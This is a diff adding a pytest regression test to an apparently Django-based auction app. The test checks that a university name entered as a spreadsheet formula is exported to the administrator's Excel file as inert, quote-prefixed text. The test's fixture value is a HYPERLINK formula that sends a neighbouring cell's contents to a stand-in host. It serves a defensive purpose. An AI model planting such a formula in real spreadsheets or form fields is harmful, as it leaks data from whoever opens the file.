@@ -152,6 +152,17 @@ def test_the_progress_page_exports_every_units_counts_to_excel(client_as, admin_
     assert rows[1][0] == "南京工业大学" and rows[1][4] == 1
 
 
+def test_a_unit_named_like_a_formula_is_exported_as_text(client_as, admin_user, liaison, university, unit_list):
+    """A name accepted by the public application form must not run in the administrator's Excel."""
+    formula = '=HYPERLINK("http://x.example/?"&A3,"详情")'
+    university.name = formula
+    university.save(update_fields=["name"])
+    response = client_as(admin_user).get(reverse("auction:progress"),
+                                         {"campaign": unit_list.campaign_id, "format": "xlsx"})
+    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
+
+
 @pytest.mark.parametrize("persona", ["solver", "expert", "enterprise_user", "outsider", "organizer"])
 def test_nobody_but_the_units_liaison_and_administrators_sees_a_list(request, client_as, persona, unit_list,
                                                                       liaison, field_2023):
